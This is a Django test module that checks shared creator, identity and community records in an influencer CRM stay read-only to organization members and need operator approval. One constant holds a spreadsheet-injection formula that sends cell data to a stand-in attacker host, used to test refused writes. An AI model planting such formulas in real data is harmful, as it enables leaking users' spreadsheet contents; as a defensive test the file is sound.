"""Shared discovery data changes only through operators (issue 17, item 4).

Communities, creators, identities, interactions, rankings and memberships are every
organization's: a manager could rename a creator (to a spreadsheet formula), flag another brand's
partner as a bot (out of every ranking), link accounts (moving other organizations' partnerships)
and track communities with the operator's credentials. Now members read them; an organization's
own view of a creator is its own record (CreatorNote); a community to track is a request an
operator approves (CommunityRequest).
"""

import pytest
from django.contrib import admin
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse

# tests/security/conftest.py replaces ``db`` with the permission matrix's module-wide world; these
# tests build their own records with tests/conftest.py's per-test fixtures, so pytest-django's own.
from pytest_django.fixtures import db  # noqa: F401

from crm.admin_scoping import SharedDataAdmin
from influencers.models import Community, Creator, Identity, RankingRun
from partnerships.community_requests import (
    community_request_approve,
    community_request_create,
    community_request_decline,
)
from partnerships.creator_notes import creator_note_save
from partnerships.models import CommunityRequest, CreatorNote, Partnership, RequestStatus

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Ivy")'


@pytest.fixture
def operator(make_user):
    return make_user("root-operator", is_superuser=True)


@pytest.fixture
def ivy_accounts(make_identity, creator):
    """Organization B's partner (``creator``) with a Reddit account, and an unlinked Discord one."""
    return make_identity("ivy", creator=creator), make_identity("Ivy", platform="discord")


def _change_url(record):
    return reverse(f"admin:{record._meta.app_label}_{record._meta.model_name}_change", args=[record.pk])


def _changelist(model):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")


# --- members cannot change shared records ---------------------------------------------------------
@pytest.mark.parametrize("role", ["owner_a", "manager_a"])
def test_a_member_cannot_rename_flag_or_add_shared_records_in_the_admin(
    request, client, role, partnership_b, ivy_accounts, community
):
    """The issue's examples, by an owner and a manager of another organization than the partner's:
    each write is refused (403) and nothing changes."""
    client.force_login(request.getfixturevalue(role))
    creator, (reddit, _discord) = partnership_b.creator, ivy_accounts
    renamed = client.post(_change_url(creator), {"display_name": FORMULA, "identities-TOTAL_FORMS": 0,
                                                  "identities-INITIAL_FORMS": 0})  # fmt: skip
    flagged = client.post(
        _change_url(reddit),
        {"platform": reddit.platform, "external_id": reddit.external_id, "handle": reddit.handle, "is_bot": "on"},
    )
    tracked = client.post(
        reverse("admin:influencers_community_add"),
        {"platform": "discourse", "external_id": "https://forum.example.org", "name": "Forum", "is_tracked": "on",
         "topic_tags": "[]", "timezone": "UTC", "language": "en"},
    )  # fmt: skip
    assert [renamed.status_code, flagged.status_code, tracked.status_code] == [403, 403, 403]
    creator.refresh_from_db()
    reddit.refresh_from_db()
    assert creator.display_name == "Ivy Lambert" and not reddit.is_bot and reddit.can_rank
    assert not Community.objects.filter(platform="discourse").exists()


def test_a_manager_cannot_link_accounts_or_rank_now(
    client, manager_a, operator, partnership_b, ivy_accounts, community
):
    """Linking accounts merges creators and moves every organization's partnerships with them;
    ranking now spends the workers: operators' actions. Neither is offered to a manager, and a
    crafted POST does nothing; an operator links."""
    reddit, discord = ivy_accounts
    lonely = Creator.objects.create(display_name="Ivy on Discord")
    Identity.objects.filter(pk=discord.pk).update(creator=lonely)
    client.force_login(manager_a)
    identities = client.get(_changelist(Identity))
    assert "link_to_one_creator" not in identities.content.decode()
    client.post(_changelist(Identity), {"action": "link_to_one_creator", ACTION_CHECKBOX_NAME: [reddit.pk, discord.pk]})
    same_handle = client.post(reverse("admin:influencers_identity_same_handle"), {"identity": [reddit.pk, discord.pk]})
    assert same_handle.status_code == 403
    discord.refresh_from_db()
    assert discord.creator == lonely and Creator.objects.filter(pk=lonely.pk).exists()
    assert Partnership.objects.get(pk=partnership_b.pk).creator_id == reddit.creator_id

    assert "rank_now" not in client.get(_changelist(Community)).content.decode()
    client.post(_changelist(Community), {"action": "rank_now", ACTION_CHECKBOX_NAME: [community.pk]})
    assert not RankingRun.objects.exists()

    client.force_login(operator)  # whose action it is
    linked = client.post(_changelist(Identity), {"action": "link_to_one_creator",
                                                 ACTION_CHECKBOX_NAME: [reddit.pk, discord.pk]})  # fmt: skip
    assert linked.status_code == 302
    reddit.refresh_from_db()
    discord.refresh_from_db()
    assert discord.creator == reddit.creator == Partnership.objects.get(pk=partnership_b.pk).creator


def test_every_shared_admin_is_read_only_to_every_member(rf, owner_a, manager_a, viewer_a, operator):
    """The rule in one place (crm.admin_scoping.SharedDataAdmin), for every shared model registered."""
    shared = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, SharedDataAdmin)]
    assert {m.model for m in shared} >= {Community, Creator, Identity}
    for user in (owner_a, manager_a, viewer_a):
        request = rf.get("/")
        request.user = user
        for model_admin in shared:
            rights = [model_admin.has_add_permission(request), model_admin.has_change_permission(request),
                      model_admin.has_delete_permission(request)]  # fmt: skip
            assert model_admin.has_view_permission(request) and rights == [False] * 3, (user, model_admin)
            inline_rights = [
                (inline.has_add_permission(request, None), inline.has_change_permission(request))
                for inline in model_admin.get_inline_instances(request)
            ]
            assert all(pair == (False, False) for pair in inline_rights), (user, model_admin)


# --- an organization's own view of a creator ------------------------------------------------------
def _note_form(creator, organization, **fields):
    return {"organization": organization.pk, "creator": creator.pk, "note": "", **fields}


def test_an_organizations_note_on_a_creator_is_its_own_and_changes_no_ranking(
    client, manager_a, viewer_a, manager_b, org_a, partnership_b, ivy_accounts
):
    """A manager of A suspects B's partner is a bot: A's note says so (with why), A's viewers read
    it on the creator page, B never sees it, and the account stays in every ranking."""
    creator, (reddit, _discord) = partnership_b.creator, ivy_accounts
    client.force_login(manager_a)
    added = client.post(
        reverse("admin:partnerships_creatornote_add"),
        _note_form(creator, org_a, note="Replies within a second, all day", suspected_bot="on",
                   bot_reason="Answers at 4am every night"),
    )  # fmt: skip
    assert added.status_code == 302, added.context["adminform"].form.errors
    note = CreatorNote.objects.get()
    assert (note.organization, note.creator, note.suspected_bot, note.created_by) == (
        org_a, creator, True, manager_a
    )  # fmt: skip
    assert note.history.get().history_user == manager_a
    reddit.refresh_from_db()
    assert not reddit.is_bot and reddit.can_rank  # the shared account: unchanged

    client.force_login(viewer_a)
    page = client.get(reverse("creator", args=[creator.pk])).content.decode()
    assert "Answers at 4am every night" in page and "Suspected bot" in page
    assert client.get(_change_url(note)).status_code == 200  # read-only for a viewer
    assert client.post(_change_url(note), {"note": "viewer's"}).status_code == 403

    client.force_login(manager_b)
    assert "Answers at 4am" not in client.get(reverse("creator", args=[creator.pk])).content.decode()
    assert "Answers at 4am" not in client.get(_changelist(CreatorNote)).content.decode()
    assert client.get(_change_url(note)).status_code in (302, 404)  # as if it did not exist


def test_a_suspected_bot_needs_a_reason_and_an_organization_has_one_note_per_creator(
    client, manager_a, viewer_a, org_a, creator
):
    client.force_login(manager_a)
    no_reason = client.post(reverse("admin:partnerships_creatornote_add"),
                            _note_form(creator, org_a, suspected_bot="on"))  # fmt: skip
    assert no_reason.status_code == 200 and "Say why" in no_reason.content.decode()
    creator_note_save(organization=org_a, creator=creator, actor=manager_a, note="first")
    again = client.post(reverse("admin:partnerships_creatornote_add"), _note_form(creator, org_a, note="second"))
    assert again.status_code == 200 and CreatorNote.objects.get().note == "first"
    with pytest.raises(PermissionDenied):
        creator_note_save(organization=org_a, creator=creator, actor=viewer_a, note="a viewer's")


# --- tracking a community is a request an operator approves ---------------------------------------
def _ask(client, organization, platform="reddit", external_id="r/FountainPens", reason="Our customers talk there"):
    return client.post(
        reverse("admin:partnerships_communityrequest_add"),
        {"organization": organization.pk, "platform": platform, "external_id": external_id, "reason": reason},
    )


def test_a_manager_asks_an_operator_approves_and_the_community_is_tracked(
    client, manager_a, viewer_a, manager_b, operator, org_a
):
    client.force_login(manager_a)
    asked = _ask(client, org_a)
    assert asked.status_code == 302, asked.context["adminform"].form.errors
    request = CommunityRequest.objects.get()
    assert (request.external_id, request.status, request.requested_by) == ("fountainpens", "requested", manager_a)
    assert not Community.objects.exists()  # nothing tracked, nothing shared, until an operator says so
    # Members cannot decide, neither by the action nor by the service.
    refused = client.post(
        _changelist(CommunityRequest), {"action": "approve", ACTION_CHECKBOX_NAME: [request.pk]}, follow=True
    )
    assert "No action selected" in refused.content.decode() and not Community.objects.exists()
    with pytest.raises(PermissionDenied):
        community_request_approve(request=request, actor=manager_a)

    client.force_login(manager_b)
    assert "fountainpens" not in client.get(_changelist(CommunityRequest)).content.decode()

    client.force_login(operator)
    approved = client.post(_changelist(CommunityRequest), {"action": "approve", ACTION_CHECKBOX_NAME: [request.pk]})
    assert approved.status_code == 302
    community = Community.objects.get()
    assert (community.platform, community.external_id, community.is_tracked) == ("reddit", "fountainpens", True)
    request.refresh_from_db()
    assert (request.status, request.community, request.decided_by) == (RequestStatus.APPROVED, community, operator)
    assert [h.history_user for h in request.history.order_by("history_date")] == [manager_a, operator]

    # The organization sees the outcome, not which operator decided.
    client.force_login(viewer_a)
    page = client.get(_change_url(request)).content.decode()
    assert "Approved" in page and operator.username not in page
    history = client.get(reverse("admin:partnerships_communityrequest_history", args=[request.pk])).content.decode()
    assert manager_a.username in history and operator.username not in history


def test_an_operator_declines_with_a_reason_the_organization_reads(client, manager_a, operator, org_a):
    request = community_request_create(
        organization=org_a, platform="discourse", external_id="https://forum.example.org/", reason="Homebrewers",
        actor=manager_a,
    )  # fmt: skip
    assert request.external_id == "https://forum.example.org"
    client.force_login(operator)
    choose = {"action": "decline", ACTION_CHECKBOX_NAME: [request.pk]}
    asks_why = client.post(_changelist(CommunityRequest), choose)
    assert asks_why.status_code == 200 and b"Say why" in asks_why.content
    client.post(_changelist(CommunityRequest), {**choose, "confirmed": "yes", "decision_note": ""})
    request.refresh_from_db()
    assert request.status == RequestStatus.REQUESTED  # not without a reason
    client.post(_changelist(CommunityRequest), {**choose, "confirmed": "yes", "decision_note": "Mostly spam."})
    request.refresh_from_db()
    assert (request.status, request.decision_note) == (RequestStatus.DECLINED, "Mostly spam.")
    assert not Community.objects.exists()
    with pytest.raises(ValidationError):
        community_request_approve(request=request, actor=operator)
    client.force_login(manager_a)
    assert "Mostly spam." in client.get(_change_url(request)).content.decode()


@pytest.mark.parametrize(
    "platform, external_id, field, says",
    [
        ("reddit", "not a subreddit!", "external_id", "subreddit's name"),
        ("discourse", "http://forum.example.org", "external_id", "https://"),  # https only: the key goes there
        ("discourse", "https://user:secret@forum.example.org", "external_id", "without a user name or password"),
        ("discourse", "forum.example.org", "external_id", "https://"),
        ("slack", "T03TRAILRUN", "platform", "not one of the available choices"),  # from exports, never synced
    ],
)
def test_a_request_names_a_community_the_workers_can_track(
    client, manager_a, org_a, platform, external_id, field, says
):
    client.force_login(manager_a)
    answer = _ask(client, org_a, platform=platform, external_id=external_id)
    errors = answer.context["adminform"].form.errors
    assert answer.status_code == 200 and field in errors and says in " ".join(errors[field]), errors
    assert not CommunityRequest.objects.exists()


def test_a_community_tracked_or_asked_for_already_is_not_asked_again(manager_a, viewer_a, operator, org_a):
    community_request_create(organization=org_a, platform="reddit", external_id="inks", reason="x", actor=manager_a)
    with pytest.raises(ValidationError, match="asked for this community already"):
        community_request_create(
            organization=org_a, platform="reddit", external_id="r/Inks", reason="y", actor=manager_a
        )
    Community.objects.create(platform="reddit", external_id="pens", name="r/pens", is_tracked=True)
    with pytest.raises(ValidationError, match="tracked already"):
        community_request_create(organization=org_a, platform="reddit", external_id="pens", reason="z", actor=manager_a)
    with pytest.raises(PermissionDenied):
        community_request_create(organization=org_a, platform="reddit", external_id="nibs", reason="v", actor=viewer_a)
    declined = CommunityRequest.objects.get()
    with pytest.raises(ValidationError):
        community_request_decline(request=declined, actor=operator, reason=" ")
